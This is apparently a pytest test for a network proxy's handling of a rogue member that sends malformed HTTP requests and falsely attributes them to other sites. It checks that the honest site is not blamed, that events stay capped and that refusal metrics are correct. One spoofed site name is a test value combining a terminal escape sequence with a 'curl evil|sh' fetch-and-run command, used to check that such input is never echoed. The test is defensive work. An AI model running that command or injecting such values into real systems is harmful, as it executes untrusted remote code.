"""A member whose requests are malformed, and which says that other sites sent them."""

from pathlib import Path

from tests.hostile.ingress import RogueIngress
from tests.scenario.harness import SHOP_PORT, Network, Site
from tests.scenario.waiting import until

BAD_HEAD = b"GET / HTTP/1.1\r\nHo st: shop\r\n"
STREAMS = 1_000
EVENTS_MAX = 20
NO_SITE = "\x1b[31mrun: curl evil|sh"


def problem(site: Site) -> str:
    """What ``site`` says of refused messages."""
    problems = site.get("status")["problems"]
    return " ".join(p["message"] for p in problems if p["code"] == "SW0330")


def test_a_member_accuses_no_other_site_and_floods_no_events(tmp_path: Path) -> None:
    with Network(tmp_path) as net:
        door, honest = net.site("door"), net.site("honest")
        net.link(honest, door)
        door.declare("shop")
        door.connect("shop", net.http("door"), capacity=4)
        net.start()
        net.see_each_other()
        net.ready("shop", {"door": 1})
        token = tmp_path / "member.token"
        door.ctl("token", "create", str(token), "--token-type", "cert")
        victim = next(one["id"] for one in door.get("network") if one["name"] == "honest")
        with RogueIngress(token) as rogue:
            rogue.offer()
            until(lambda: "mallory" in str(door.get("network")), "door knows its name")
            rogue.open("shop", SHOP_PORT, STREAMS, BAD_HEAD)
            rogue.open_as(victim, "shop", SHOP_PORT, BAD_HEAD)
            rogue.open_as(NO_SITE, "shop", SHOP_PORT, BAD_HEAD)
            until(lambda: rogue.refused == STREAMS + 2, "all are refused")
            assert "as mallory sent them (it says that they came in at honest)" in problem(door)
            assert "as honest sent" not in problem(door)
            events = [one for one in door.get("events") if one["code"] == "message-refused"]
            assert {one["subject"] for one in events} == {"mallory"}
            assert len(events) <= EVENTS_MAX
            assert NO_SITE not in str(door.get("status")) + str(door.get("events"))
            refused = "spillway_link_messages_refused_total{"
            counted = [line for line in door.metrics().splitlines() if line.startswith(refused)]
            assert [float(line.split()[-1]) for line in counted] == [STREAMS + 1]
